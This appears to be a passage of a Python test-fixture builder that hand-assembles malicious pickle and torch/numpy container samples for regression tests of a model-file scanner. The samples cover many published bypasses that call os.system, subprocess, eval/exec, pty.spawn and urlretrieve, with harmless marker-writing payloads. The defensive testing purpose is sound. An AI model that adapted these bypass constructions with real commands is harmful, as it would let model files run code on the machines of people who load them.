"""Deterministic builder of *malicious* model-file samples for mlvet's regression tests.

Why this exists
---------------
Every published bypass of a pickle-family scanner (picklescan, modelscan, fickling, modelaudit
advisories, CVE-2025-1716/1889/1944/1945/10155/10156/10157, ReversingLabs' nullifAI, the
"Art of Hide and Seek" paper, ...) is a *shape of bytes* that one scanner failed to understand
while a real loader (``pickle``, ``torch.load``, ``numpy.load``, ``joblib.load``) still executed
it.  mlvet's tests need one reproducible sample per technique, built from raw opcodes and raw
container bytes, so a regression test can assert "mlvet names the dangerous callable".  The
catalogue behind these samples is ``/work/notes/bypass_catalog.md`` (technique ids match).

Safety
------
* Samples are never produced by pickling an object with a ``__reduce__``: every byte is written
  by hand here, so building them executes nothing.
* Payloads are harmless but use the *real* dangerous callable: shell commands only append
  ``mlvet-test`` to ``$MLVET_MARKER`` (``/dev/null`` when unset), Python code only appends to the
  same file, and file-system gadgets only create ``mlvet_marker*`` in the current directory.
  Network gadgets only target 127.0.0.1 on the discard port.
* Nothing here imports torch/numpy/joblib.  ``py7zr`` (7z samples) and ``lz4`` (lz4 joblib
  sample) are imported lazily inside their own builders and are skipped when missing.

Determinism
-----------
``build_all()`` returns byte-identical data on every run for a given Python minor version (the
only version-dependent sample embeds a ``marshal`` code object; see its note).  ZIP, tar, gzip and
7z timestamps are pinned.

``verify_live.py`` next to this file loads each sample with the real loaders in a sandboxed
subprocess and reports which ones really execute.  It is test tooling only.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import marshal
import struct
import sys
import tarfile
import zlib
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, replace
from pathlib import Path

__all__ = [
    "MARKER_ENV",
    "PY_SRC",
    "REL_MARKER",
    "SHELL_CMD",
    "Sample",
    "build_all",
    "write_all",
]

#: Environment variable naming the marker file a payload writes to (``/dev/null`` when unset).
MARKER_ENV = "MLVET_MARKER"
#: Shell payload: harmless, but proves a shell ran when MLVET_MARKER points somewhere real.
SHELL_CMD = 'echo mlvet-test >>"${MLVET_MARKER:-/dev/null}"'
#: Python payload (valid for eval, exec and "single" compilation alike).
PY_SRC = "open(__import__('os').environ.get('MLVET_MARKER','/dev/null'),'a').write('mlvet-test\\n')"
#: File-system gadgets cannot expand an env var, so they create this name in the CWD.
REL_MARKER = "mlvet_marker.out"

# Reference shorthands (full URLs in the catalogue).
PS = "https://github.com/mmaitre314/picklescan/security/advisories/"
FK = "https://github.com/trailofbits/fickling/security/advisories/"
HIDE_SEEK = "arXiv:2508.19774 (The Art of Hide and Seek)"
NULLIFAI = "ReversingLabs nullifAI (2025-02)"


@dataclass(frozen=True)
class Sample:
    """One malicious file.

    ``expect_callable`` is the dotted name a correct scanner must report (a value in angle brackets,
    e.g. ``<EXT1 0xf1>`` or ``<unresolved STACK_GLOBAL>``, names a construct rather than a callable).  ``alt_callables``
    lists other names that are equally acceptable findings (e.g. the nested-loader gadget *or*
    the callable inside the nested pickle).  ``loaders`` is the set of real loading paths that
    execute the payload (verified by ``verify_live.py`` on CPython 3.11 / torch 2.13 / numpy 2.x /
    joblib 1.6); ``()`` means no stock loader runs it on this platform, but the bytes still
    prove the scanner reads the construct.  ``live`` is False for samples that verify_live must
    not execute (interactive debuggers, real network, package installs).
    """

    name: str
    technique: str
    references: tuple[str, ...]
    filename: str
    data: bytes
    expect_callable: str
    note: str
    alt_callables: tuple[str, ...] = ()
    loaders: tuple[str, ...] = ("pickle",)
    live: bool = True


# ---------------------------------------------------------------------------------------------
# Pickle assembler
# ---------------------------------------------------------------------------------------------


class Raw:
    """Opcode fragment that pushes exactly one value; usable wherever a Python value is."""

    def __init__(self, code: bytes) -> None:
        self.code = code


class Asm:
    """Minimal pickle assembler: each method appends one opcode, so samples read like listings."""

    def __init__(self, proto: int = 4) -> None:
        self.proto = proto
        self.parts: list[bytes] = []

    # -- plumbing ---------------------------------------------------------------------------
    def raw(self, b: bytes) -> Asm:
        self.parts.append(b)
        return self

    def code(self) -> bytes:
        return b"".join(self.parts)

    # -- structural opcodes -----------------------------------------------------------------
    def proto_op(self, n: int) -> Asm:
        return self.raw(b"\x80" + bytes([n]))

    def frame(self, n: int) -> Asm:
        return self.raw(b"\x95" + struct.pack("<Q", n))

    def mark(self) -> Asm:
        return self.raw(b"(")

    def stop(self) -> Asm:
        return self.raw(b".")

    def pop(self) -> Asm:
        return self.raw(b"0")

    def pop_mark(self) -> Asm:
        return self.raw(b"1")

    def dup(self) -> Asm:
        return self.raw(b"2")

    def none(self) -> Asm:
        return self.raw(b"N")

    def tuple_(self) -> Asm:
        return self.raw(b"t")

    def tuple1(self) -> Asm:
        return self.raw(b"\x85")

    def tuple2(self) -> Asm:
        return self.raw(b"\x86")

    def tuple3(self) -> Asm:
        return self.raw(b"\x87")

    def empty_tuple(self) -> Asm:
        return self.raw(b")")

    def empty_list(self) -> Asm:
        return self.raw(b"]")

    def empty_dict(self) -> Asm:
        return self.raw(b"}")

    def list_(self) -> Asm:
        return self.raw(b"l")

    def dict_(self) -> Asm:
        return self.raw(b"d")

    def appends(self) -> Asm:
        return self.raw(b"e")

    def setitem(self) -> Asm:
        return self.raw(b"s")

    def setitems(self) -> Asm:
        return self.raw(b"u")

    def reduce(self) -> Asm:
        return self.raw(b"R")

    def build(self) -> Asm:
        return self.raw(b"b")

    def obj(self) -> Asm:
        return self.raw(b"o")

    def newobj(self) -> Asm:
        return self.raw(b"\x81")

    def newobj_ex(self) -> Asm:
        return self.raw(b"\x92")

    def stack_global(self) -> Asm:
        return self.raw(b"\x93")

    def global_(self, module: str, name: str) -> Asm:
        return self.raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")

    def inst(self, module: str, name: str) -> Asm:
        return self.raw(b"i" + module.encode() + b"\n" + name.encode() + b"\n")

    def ext(self, code: int) -> Asm:
        if code < 0x100:
            return self.raw(b"\x82" + bytes([code]))
        if code < 0x10000:
            return self.raw(b"\x83" + struct.pack("<H", code))
        return self.raw(b"\x84" + struct.pack("<i", code))

    # -- memo -------------------------------------------------------------------------------
    def memoize(self) -> Asm:
        return self.raw(b"\x94")

    def put(self, i: int) -> Asm:
        return self.raw(b"p" + str(i).encode() + b"\n")

    def binput(self, i: int) -> Asm:
        return self.raw(b"q" + bytes([i]))

    def long_binput(self, i: int) -> Asm:
        return self.raw(b"r" + struct.pack("<I", i))

    def get(self, i: int) -> Asm:
        return self.raw(b"g" + str(i).encode() + b"\n")

    def binget(self, i: int) -> Asm:
        return self.raw(b"h" + bytes([i]))

    def long_binget(self, i: int) -> Asm:
        return self.raw(b"j" + struct.pack("<I", i))

    # -- scalars ----------------------------------------------------------------------------
    def unicode(self, s: str) -> Asm:
        """Protocol-0 ``V``: raw-unicode-escape, exactly as pickle escapes it."""
        esc = (
            s.replace("\\", "\\u005c")
            .replace("\0", "\\u0000")
            .replace("\n", "\\u000a")
            .replace("\r", "\\u000d")
            .replace("\x1a", "\\u001a")
        )
        return self.raw(b"V" + esc.encode("raw-unicode-escape") + b"\n")

    def unicode_raw(self, escaped: bytes) -> Asm:
        """``V`` with caller-chosen escape spelling (e.g. ``o\\u0073`` for "os")."""
        return self.raw(b"V" + escaped + b"\n")

    def string(self, s: str) -> Asm:
        """Protocol-0 ``S`` (quoted, backslash-escaped; decoded to str with encoding=ASCII)."""
        return self.raw(b"S" + repr(s.encode("latin-1"))[1:].encode("ascii") + b"\n")

    def string_raw(self, quoted: bytes) -> Asm:
        return self.raw(b"S" + quoted + b"\n")

    def binstring(self, s: str) -> Asm:
        b = s.encode("latin-1")
        return self.raw(b"T" + struct.pack("<i", len(b)) + b)

    def short_binstring(self, s: str) -> Asm:
        b = s.encode("latin-1")
        return self.raw(b"U" + bytes([len(b)]) + b)

    def binunicode(self, s: str) -> Asm:
        b = s.encode("utf-8")
        return self.raw(b"X" + struct.pack("<I", len(b)) + b)

    def short_binunicode(self, s: str) -> Asm:
        b = s.encode("utf-8")
        return self.raw(b"\x8c" + bytes([len(b)]) + b)

    def binunicode8(self, s: str) -> Asm:
        b = s.encode("utf-8")
        return self.raw(b"\x8d" + struct.pack("<Q", len(b)) + b)

    def short_binbytes(self, b: bytes) -> Asm:
        return self.raw(b"C" + bytes([len(b)]) + b)

    def binbytes(self, b: bytes) -> Asm:
        return self.raw(b"B" + struct.pack("<I", len(b)) + b)

    def binbytes8(self, b: bytes) -> Asm:
        return self.raw(b"\x8e" + struct.pack("<Q", len(b)) + b)

    def bytearray8(self, b: bytes) -> Asm:
        return self.raw(b"\x96" + struct.pack("<Q", len(b)) + b)

    def int_(self, n: int) -> Asm:
        if self.proto == 0:
            return self.raw(b"I" + str(n).encode() + b"\n")
        if 0 <= n < 0x100:
            return self.raw(b"K" + bytes([n]))
        if 0 <= n < 0x10000:
            return self.raw(b"M" + struct.pack("<H", n))
        if -(2**31) <= n < 2**31:
            return self.raw(b"J" + struct.pack("<i", n))
        enc = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
        return self.raw(b"\x8a" + bytes([len(enc)]) + enc)

    # -- values -----------------------------------------------------------------------------
    def str_(self, s: str) -> Asm:
        if self.proto == 0:
            return self.unicode(s)
        if self.proto < 4 or len(s.encode()) >= 256:
            return self.binunicode(s)
        return self.short_binunicode(s)

    def val(self, v: object) -> Asm:
        """Push a plain Python value using the encodings CPython's pickler uses for ``proto``."""
        if isinstance(v, Raw):
            return self.raw(v.code)
        if v is None:
            return self.none()
        if isinstance(v, bool):
            if self.proto >= 2:
                return self.raw(b"\x88" if v else b"\x89")
            return self.raw(b"I01\n" if v else b"I00\n")
        if isinstance(v, int):
            return self.int_(v)
        if isinstance(v, str):
            return self.str_(v)
        if isinstance(v, bytes):
            if self.proto < 3:
                raise ValueError("bytes need protocol >= 3 in these samples")
            return self.short_binbytes(v) if len(v) < 256 else self.binbytes(v)
        if isinstance(v, tuple):
            return self.tuple_of(v)
        if isinstance(v, list):
            if self.proto == 0:
                self.mark()
                for item in v:
                    self.val(item)
                return self.list_()
            self.empty_list()
            if v:
                self.mark()
                for item in v:
                    self.val(item)
                self.appends()
            return self
        if isinstance(v, dict):
            if self.proto == 0:
                self.mark()
                for k, item in v.items():
                    self.val(k)
                    self.val(item)
                return self.dict_()
            self.empty_dict()
            if v:
                self.mark()
                for k, item in v.items():
                    self.val(k)
                    self.val(item)
                self.setitems()
            return self
        raise TypeError(f"unsupported value {v!r}")

    def tuple_of(self, items: Sequence[object]) -> Asm:
        if self.proto >= 2 and len(items) <= 3:
            for item in items:
                self.val(item)
            return self.raw([b")", b"\x85", b"\x86", b"\x87"][len(items)])
        self.mark()
        for item in items:
            self.val(item)
        return self.tuple_()

    def glob(self, module: str, name: str) -> Asm:
        """Push a global the way ``pickle.dumps(proto)`` would (GLOBAL <4, STACK_GLOBAL >=4)."""
        if self.proto >= 4:
            return self.short_binunicode(module).memoize().short_binunicode(name).memoize().stack_global()
        return self.global_(module, name)

    def call(self, module: str, name: str, *args: object) -> Asm:
        """``module.name(*args)`` via REDUCE."""
        self.glob(module, name)
        self.tuple_of(args)
        return self.reduce()

    def done(self) -> bytes:
        """Wrap the body with PROTO/FRAME as CPython does and terminate with STOP."""
        body = self.code() + b"."
        head = b""
        if self.proto >= 2:
            head = b"\x80" + bytes([self.proto])
        if self.proto >= 4:
            head += b"\x95" + struct.pack("<Q", len(body))
        return head + body


def call_pickle(module: str, name: str, *args: object, proto: int = 4) -> bytes:
    """A complete pickle whose only effect is ``module.name(*args)``."""
    return Asm(proto).call(module, name, *args).done()


def frag(proto: int, build: Callable[[Asm], object]) -> Raw:
    """Opcode fragment (pushing one value) built with the encodings of ``proto``."""
    a = Asm(proto)
    build(a)
    return Raw(a.code())


def sh_pickle(proto: int = 4) -> bytes:
    """The canonical payload: ``os.system(SHELL_CMD)``."""
    return call_pickle("os", "system", SHELL_CMD, proto=proto)


def bytes_p0(b: bytes) -> Raw:
    """Protocol 0-2 spelling of a bytes object: ``_codecs.encode(latin1_str, 'latin1')``."""
    return frag(
        0,
        lambda a: (
            a.global_("_codecs", "encode").mark().unicode(b.decode("latin-1")).unicode("latin1").tuple_().reduce()
        ),
    )


BENIGN = Asm(2).val({"weight": 1, "bias": [0, 1]}).done()


# ---------------------------------------------------------------------------------------------
# Container writers (ZIP by hand so every header field can be lied about)
# ---------------------------------------------------------------------------------------------

_DOS_DATE = (0 << 9) | (1 << 5) | 1  # 1980-01-01
_DOS_TIME = 0


@dataclass
class ZEntry:
    """One ZIP member; every field that a bypass lies about is overridable."""

    name: str
    data: bytes
    method: int = 0
    flags: int = 0
    local_flags: int | None = None
    local_name: str | None = None
    crc: int | None = None
    extra: bytes = b""
    central_extra: bytes | None = None
    data_descriptor: bool = False
    in_central: bool = True
    payload_override: bytes | None = None  # bytes stored instead of (compressed) data


def build_zip(
    entries: Sequence[ZEntry],
    *,
    prefix: bytes = b"",
    adjust_offsets: bool = False,
    comment: bytes = b"",
    trailer: bytes = b"",
) -> bytes:
    """Assemble a ZIP archive byte by byte (fixed timestamps, no zipfile module involved)."""
    out = bytearray(prefix)
    base = len(prefix) if adjust_offsets else 0
    zip_start = len(prefix)
    central = bytearray()
    count = 0
    for e in entries:
        raw = e.data
        if e.method == 8:
            co = zlib.compressobj(9, zlib.DEFLATED, -15)
            stored = co.compress(raw) + co.flush()
        else:
            stored = raw
        if e.payload_override is not None:
            stored = e.payload_override
        crc = zlib.crc32(raw) if e.crc is None else e.crc
        name = e.name.encode()
        lname = (e.local_name if e.local_name is not None else e.name).encode()
        lflags = e.flags if e.local_flags is None else e.local_flags
        offset = len(out) - zip_start + base
        if e.data_descriptor:
            lcrc, lcsize, lusize = 0, 0, 0
        else:
            lcrc, lcsize, lusize = crc, len(stored), len(raw)
        out += struct.pack(
            "<4s5H3I2H",
            b"PK\x03\x04",
            20,
            lflags,
            e.method,
            _DOS_TIME,
            _DOS_DATE,
            lcrc,
            lcsize,
            lusize,
            len(lname),
            len(e.extra),
        )
        out += lname + e.extra + stored
        if e.data_descriptor:
            out += struct.pack("<4s3I", b"PK\x07\x08", crc, len(stored), len(raw))
        if not e.in_central:
            continue
        cextra = e.extra if e.central_extra is None else e.central_extra
        central += struct.pack(
            "<4s6H3I5H2I",
            b"PK\x01\x02",
            20,
            20,
            e.flags,
            e.method,
            _DOS_TIME,
            _DOS_DATE,
            crc,
            len(stored),
            len(raw),
            len(name),
            len(cextra),
            0,
            0,
            0,
            0o644 << 16,
            offset,
        )
        central += name + cextra
        count += 1
    cd_offset = len(out) - zip_start + base
    out += central
    out += struct.pack(
        "<4s4H2IH",
        b"PK\x05\x06",
        0,
        0,
        count,
        count,
        len(central),
        cd_offset,
        len(comment),
    )
    out += comment + trailer
    return bytes(out)


def torch_entries(data_pkl: bytes, archive: str = "archive", extra: Iterable[ZEntry] = ()) -> list[ZEntry]:
    """Member list of a minimal ``torch.save`` zip checkpoint (no tensors, so no data/ records)."""
    ents = [ZEntry(f"{archive}/data.pkl", data_pkl)]
    ents += list(extra)
    ents += [
        ZEntry(f"{archive}/byteorder", b"little"),
        ZEntry(f"{archive}/version", b"3\n"),
        ZEntry(f"{archive}/.data/serialization_id", b"0123456789012345678901234567890123456789"),
    ]
    return ents


def torch_zip(data_pkl: bytes, *, prefix: bytes = b"") -> bytes:
    """A minimal torch.save-style zip checkpoint around ``data_pkl`` (optionally with junk before it)."""
    return build_zip(torch_entries(data_pkl), prefix=prefix)


_MAGIC = 0x1950A86A20F9469CFC6C


def legacy_parts() -> list[bytes]:
    """The five pickles of the pre-1.6 torch.save stream: magic, protocol, sys_info, data, keys."""
    magic = Asm(2).int_(_MAGIC).done()
    protocol = Asm(2).int_(1001).done()
    sys_info = (
        Asm(2)
        .val({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}})
        .done()
    )
    data = BENIGN
    keys = Asm(2).val([]).done()
    return [magic, protocol, sys_info, data, keys]


def make_tar(members: Sequence[tuple[str, bytes]], fmt: int = tarfile.USTAR_FORMAT) -> bytes:
    """Deterministic tar (mtime 0, root owner) of in-memory members."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tf:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 0
            ti.mode = 0o644
            ti.uid = ti.gid = 0
            ti.uname = ti.gname = ""
            tf.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def npy_object(pkl: bytes, version: tuple[int, int] = (1, 0), shape: str = "(1,)", descr: str = "'|O'") -> bytes:
    """A ``.npy`` file declaring an object array, followed by its (malicious) pickle."""
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}"
    hlen_size = 2 if version == (1, 0) else 4
    pre = 6 + 2 + hlen_size
    total = pre + len(header) + 1
    pad = (64 - total % 64) % 64
    hdr = (header + " " * pad + "\n").encode("latin-1" if version != (3, 0) else "utf-8")
    out = b"\x93NUMPY" + bytes(version)
    out += struct.pack("<H" if hlen_size == 2 else "<I", len(hdr)) + hdr
    return out + pkl


def seven_zip(members: Sequence[tuple[str, bytes]]) -> bytes | None:
    """7z archive via py7zr with pinned timestamps (None when py7zr is unavailable)."""
    try:
        import py7zr
        from py7zr import helpers
    except ImportError:
        return None
    fixed = helpers.ArchiveTimestamp.from_datetime(315532800.0)  # 1980-01-01, like the ZIP samples
    orig = helpers.ArchiveTimestamp.from_now
    helpers.ArchiveTimestamp.from_now = staticmethod(lambda: fixed)  # type: ignore[method-assign]
    try:
        buf = io.BytesIO()
        with py7zr.SevenZipFile(buf, "w") as z:
            for name, data in members:
                z.writestr(data, name)
        return buf.getvalue()
    finally:
        helpers.ArchiveTimestamp.from_now = orig  # type: ignore[method-assign]


# ---------------------------------------------------------------------------------------------
# Sample registry
# ---------------------------------------------------------------------------------------------


class _Reg:
    def __init__(self) -> None:
        self.samples: list[Sample] = []

    def add(
        self,
        name: str,
        technique: str,
        refs: Sequence[str],
        filename: str,
        data: bytes | None,
        expect: str,
        note: str,
        alt: Sequence[str] = (),
        loaders: Sequence[str] = ("pickle",),
        live: bool = True,
    ) -> None:
        if data is None:  # optional dependency missing
            return
        self.samples.append(
            Sample(name, technique, tuple(refs), filename, data, expect, note, tuple(alt), tuple(loaders), live)
        )


# ---------------------------------------------------------------------------------------------
# 1. Direct globals, protocols and aliases
# ---------------------------------------------------------------------------------------------


def _direct(r: _Reg) -> None:
    t = "PKL-GLOBAL-DIRECT"
    r.add(
        "direct_os_system",
        t,
        [PS + "GHSA-655q-fx9r-782v"],
        "direct_os_system.pkl",
        sh_pickle(4),
        "os.system",
        "Baseline: STACK_GLOBAL os.system + REDUCE, as pickle.dumps(proto=4) would write it.",
        alt=("posix.system",),
    )
    r.add(
        "direct_subprocess_popen",
        t,
        [],
        "direct_subprocess_popen.pkl",
        call_pickle("subprocess", "Popen", ["sh", "-c", SHELL_CMD], proto=2),
        "subprocess.Popen",
        "GLOBAL subprocess.Popen with an argv list (no shell=True needed).",
    )
    r.add(
        "direct_subprocess_getoutput",
        t,
        [],
        "direct_subprocess_getoutput.pkl",
        call_pickle("subprocess", "getoutput", SHELL_CMD, proto=3),
        "subprocess.getoutput",
        "Less common subprocess helper; blocklists keyed on Popen/run/call miss it.",
    )
    r.add(
        "direct_builtins_eval",
        t,
        [],
        "direct_builtins_eval.pkl",
        call_pickle("builtins", "eval", PY_SRC, proto=4),
        "builtins.eval",
        "eval of a Python expression.",
    )
    r.add(
        "direct_builtins_exec",
        t,
        [],
        "direct_builtins_exec.pkl",
        call_pickle("builtins", "exec", PY_SRC, proto=3),
        "builtins.exec",
        "exec of Python source.",
    )
    r.add(
        "direct_builtin_py2_eval",
        t,
        ["picklescan tests malicious1_v0"],
        "direct_builtin_py2_eval.pkl",
        call_pickle("__builtin__", "eval", PY_SRC, proto=0),
        "builtins.eval",
        "Protocol 0 spelling __builtin__ is remapped to builtins by fix_imports (proto < 3 only).",
        alt=("__builtin__.eval",),
    )
    # __import__ + getattr chain (fickling GHSA-h4rm-mm56-xf63), protocol 0 with PUT/GET.
    a = Asm(0)
    a.global_("builtins", "__import__").mark().unicode("os").tuple_().reduce().put(0).pop()
    a.global_("builtins", "getattr").mark().get(0).unicode("system").tuple_().reduce().put(1).pop()
    a.get(1).mark().unicode(SHELL_CMD).tuple_().reduce()
    r.add(
        "import_getattr_chain",
        t,
        [FK + "GHSA-h4rm-mm56-xf63"],
        "import_getattr_chain.pkl",
        a.done(),
        "builtins.getattr",
        "__import__('os') then getattr(mod, 'system')(cmd): os.system never appears as a "
        "global; the scanner must flag builtins.__import__ / builtins.getattr.",
        alt=("builtins.__import__", "os.system"),
    )
    a = Asm(2)
    a.call("builtins", "__import__", "os").put(0).pop()
    a.glob("builtins", "getattr").tuple_of([Raw(b"g0\n"), "system"]).reduce()
    a.tuple_of([SHELL_CMD]).reduce()
    r.add(
        "import_getattr_chain_p2",
        t,
        [FK + "GHSA-h4rm-mm56-xf63"],
        "import_getattr_chain_p2.pkl",
        a.done(),
        "builtins.getattr",
        "Same chain in protocol 2, result of getattr called directly (no memo for it).",
        alt=("builtins.__import__", "os.system"),
    )


def _protocols(r: _Reg) -> None:
    t = "PKL-PROTOCOL-VARIANT"
    for proto in range(6):
        r.add(
            f"protocol_{proto}_os_system",
            t,
            ["pickle protocols 0-5"],
            f"protocol_{proto}.pkl",
            sh_pickle(proto),
            "os.system",
            f"os.system(cmd) encoded exactly as CPython protocol {proto} encodes a reduce call "
            "(GLOBAL for 0-3, STACK_GLOBAL + FRAME for 4-5).",
            alt=("posix.system",),
        )
    # Exotic string opcodes for STACK_GLOBAL operands.
    a = Asm(5)
    a.binunicode8("os").binunicode8("system").stack_global().binunicode8(SHELL_CMD).tuple1().reduce()
    r.add(
        "protocol_5_binunicode8_operands",
        t,
        [],
        "protocol_5_binunicode8.pkl",
        a.done(),
        "os.system",
        "STACK_GLOBAL operands pushed with BINUNICODE8 (8-byte length), rarely emitted by CPython.",
    )
    a = Asm(5)
    a.glob("os", "system").raw(b"\x96" + struct.pack("<Q", 0)).pop().short_binunicode(SHELL_CMD).tuple1().reduce()
    r.add(
        "protocol_5_bytearray8_noise",
        t,
        [],
        "protocol_5_bytearray8.pkl",
        a.done(),
        "os.system",
        "Protocol-5-only opcode (BYTEARRAY8) in the stream; parsers that stop at unknown protocol-5 opcodes "
        "miss the call.",
    )
    # Protocol 0 with STRING (S) operands for STACK_GLOBAL: picklescan GHSA-9gvj-pp9x-gcfr.
    a = Asm(0)
    a.string("os").string("system").stack_global().string(SHELL_CMD).raw(b"\x85").reduce()
    r.add(
        "stack_global_string_operands",
        "PKL-STACK-GLOBAL-MEMO",
        [PS + "GHSA-9gvj-pp9x-gcfr"],
        "stack_global_string_operands.pkl",
        a.done(),
        "os.system",
        "STACK_GLOBAL fed by STRING ('S') opcodes with no PROTO opcode at all; a scanner accepting only "
        "*UNICODE operands sees nothing.",
    )


def _aliases(r: _Reg) -> None:
    t = "PKL-MODULE-ALIAS"
    r.add(
        "alias_posix_system",
        t,
        ["CVE-2025-10155", "modelaudit test_cve_2025_10155"],
        "alias_posix_system.pkl",
        call_pickle("posix", "system", SHELL_CMD, proto=1),
        "posix.system",
        "os.system pickles as posix.system on Linux; blocklists keyed on 'os' miss it.",
        alt=("os.system",),
    )
    r.add(
        "alias_nt_system",
        t,
        [PS],
        "alias_nt_system.pkl",
        call_pickle("nt", "system", SHELL_CMD, proto=2),
        "nt.system",
        "Windows spelling of os.system; only runs on Windows but must be flagged everywhere.",
        alt=("os.system",),
        loaders=(),
    )
    r.add(
        "alias_io_fileio",
        t,
        [PS + "GHSA-9726-w42j-3qjr"],
        "alias_io_fileio.pkl",
        call_pickle("_io", "FileIO", REL_MARKER, "w", proto=4),
        "_io.FileIO",
        "io.FileIO pickles as _io.FileIO: opens/creates an arbitrary file.",
        alt=("io.FileIO",),
    )
    r.add(
        "alias_operator_private",
        t,
        [PS + "GHSA-955r-x9j8-7rhh"],
        "alias_operator_private.pkl",
        _methodcaller_pickle("_operator"),
        "_operator.methodcaller",
        "_operator is the C twin of operator; methodcaller('system', cmd)(os-module).",
        alt=("operator.methodcaller", "builtins.__import__", "os.system"),
    )
    r.add(
        "alias_cpickle_loads",
        t,
        ["picklescan issue #24"],
        "alias_cpickle_loads.pkl",
        Asm(0).global_("cPickle", "loads").mark().raw(bytes_p0(sh_pickle(0)).code).tuple_().reduce().done(),
        "pickle.loads",
        "Python-2 module name cPickle is remapped to pickle by fix_imports (proto < 3); the "
        "inner pickle travels as _codecs.encode(latin-1 str), exactly how protocol 0 stores bytes.",
        alt=("cPickle.loads", "_codecs.encode", "os.system"),
    )
    r.add(
        "alias_commands_getoutput",
        t,
        ["_compat_pickle.IMPORT_MAPPING"],
        "alias_commands_getoutput.pkl",
        call_pickle("commands", "getoutput", SHELL_CMD, proto=0),
        "subprocess.getoutput",
        "Py2 module 'commands' does not exist in Python 3, yet fix_imports maps it to subprocess when no "
        "PROTO >= 3 is present: a scanner that cannot import 'commands' may dismiss it as harmless.",
        alt=("commands.getoutput",),
    )
    r.add(
        "alias_urllib_urlretrieve",
        t,
        ["_compat_pickle.NAME_MAPPING"],
        "alias_urllib_urlretrieve.pkl",
        call_pickle("urllib", "urlretrieve", "file:///dev/null", REL_MARKER, proto=2),
        "urllib.request.urlretrieve",
        "('urllib','urlretrieve') is rewritten to urllib.request.urlretrieve for proto < 3; writes a file "
        "(here a copy of /dev/null) and would download from any URL.",
        alt=("urllib.urlretrieve",),
    )
    r.add(
        "alias_thread_start_new_thread",
        t,
        ["_compat_pickle.IMPORT_MAPPING"],
        "alias_thread.pkl",
        Asm(2)
        .glob("thread", "start_new_thread")
        .tuple_of([frag(2, lambda a: a.glob("os", "system")), (SHELL_CMD,)])
        .reduce()
        .done(),
        "_thread.start_new_thread",
        "'thread' -> _thread: runs os.system in a new thread.",
        alt=("thread.start_new_thread", "os.system"),
    )
    popen = frag(0, lambda a: a.global_("subprocess", "Popen"))
    argv = frag(0, lambda a: a.val(["sh", "-c", SHELL_CMD]))
    r.add(
        "alias_builtin_reduce_py2",
        t,
        ["_compat_pickle.NAME_MAPPING", HIDE_SEEK + " indirect call"],
        "alias_builtin_reduce.pkl",
        Asm(0)
        .global_("__builtin__", "reduce")
        .mark()
        .val(popen)
        .mark()
        .int_(0)
        .list_()
        .val(argv)
        .tuple_()
        .reduce()
        .done(),
        "subprocess.Popen",
        "('__builtin__','reduce') maps to functools.reduce; reduce(Popen, [0], argv) calls "
        "Popen(argv, 0). The dangerous callable is only an *argument*: scanners that inspect REDUCE targets "
        "only see functools.reduce.",
        alt=("functools.reduce", "__builtin__.reduce"),
    )
    a = Asm(4)
    a.call(
        "_posixsubprocess",
        "fork_exec",
        [b"/bin/sh", b"-c", SHELL_CMD.encode()],
        [b"/bin/sh"],
        False,
        (),
        None,
        None,
        -1,
        -1,
        -1,
        -1,
        -1,
        -1,
        0,
        2,
        False,
        False,
        -1,
        None,
        None,
        None,
        -1,
        None,
        False,
    )
    r.add(
        "alias_posixsubprocess_fork_exec",
        t,
        [FK.replace("security/advisories/", "") + " UNSAFE_IMPORTS"],
        "alias_posixsubprocess.pkl",
        a.done(),
        "_posixsubprocess.fork_exec",
        "The C primitive under subprocess; argument list matches CPython 3.11 (23 args, version-specific).",
        alt=("subprocess.Popen",),
    )


def _methodcaller_pickle(opmod: str) -> bytes:
    """``methodcaller('system', cmd)(__import__('os'))`` in protocol 0 (GHSA-955r-x9j8-7rhh shape)."""
    a = Asm(0)
    a.global_("builtins", "__import__").mark().unicode("os").tuple_().reduce().put(0).pop()
    a.global_(opmod, "methodcaller").mark().unicode("system").unicode(SHELL_CMD).tuple_().reduce()
    a.mark().get(0).tuple_().reduce()
    return a.done()


# ---------------------------------------------------------------------------------------------
# 2. Alternative call opcodes
# ---------------------------------------------------------------------------------------------


def _call_opcodes(r: _Reg) -> None:
    a = Asm(0)
    a.mark().unicode(SHELL_CMD).inst("os", "system")
    r.add(
        "inst_os_system",
        "PKL-CALL-INST",
        ["picklescan PR #21 (INST)"],
        "inst_os_system.pkl",
        a.done(),
        "os.system",
        "INST reads module/name inline (like GLOBAL) and calls it with the MARKed args; "
        "scanners that only look for GLOBAL/STACK_GLOBAL miss it.",
        alt=("posix.system",),
    )
    a = Asm(0)
    a.mark().string(PY_SRC).inst("__builtin__", "exec")
    r.add(
        "inst_builtin_exec",
        "PKL-CALL-INST",
        ["picklescan tests malicious10"],
        "inst_builtin_exec.pkl",
        a.done(),
        "builtins.exec",
        "INST with the Python-2 __builtin__ spelling and a STRING argument.",
        alt=("__builtin__.exec",),
    )
    a = Asm(1)
    a.mark().global_("pty", "spawn").val(["sh", "-c", SHELL_CMD]).obj()
    r.add(
        "obj_pty_spawn",
        "PKL-CALL-OBJ",
        [FK + "GHSA-r7v6-mfhq-g3m2", "fickling PR #108"],
        "obj_pty_spawn.pkl",
        a.done(),
        "pty.spawn",
        "OBJ: MARK callable args OBJ calls callable(*args) (not only classes).",
    )
    a = Asm(4)
    a.mark().glob("os", "system").short_binunicode(SHELL_CMD).obj().pop().none()
    r.add(
        "obj_result_popped",
        "PKL-CALL-OBJ",
        [FK + "GHSA-mxhj-88fx-4pcv"],
        "obj_result_popped.pkl",
        a.done(),
        "os.system",
        "The OBJ call's result is POPped and the pickle returns None: analyses that only keep "
        "calls reachable from the final value lose the call entirely.",
        alt=("posix.system",),
    )
    # NEWOBJ: cls.__new__(cls, *args). functools.partial's __new__ stores func+args; REDUCE fires it.
    a = Asm(2)
    a.global_("functools", "partial").global_("os", "system").val(SHELL_CMD).tuple2().newobj()
    a.empty_tuple().reduce()
    r.add(
        "newobj_partial_os_system",
        "PKL-CALL-NEWOBJ",
        [PS + "(functools.partial)"],
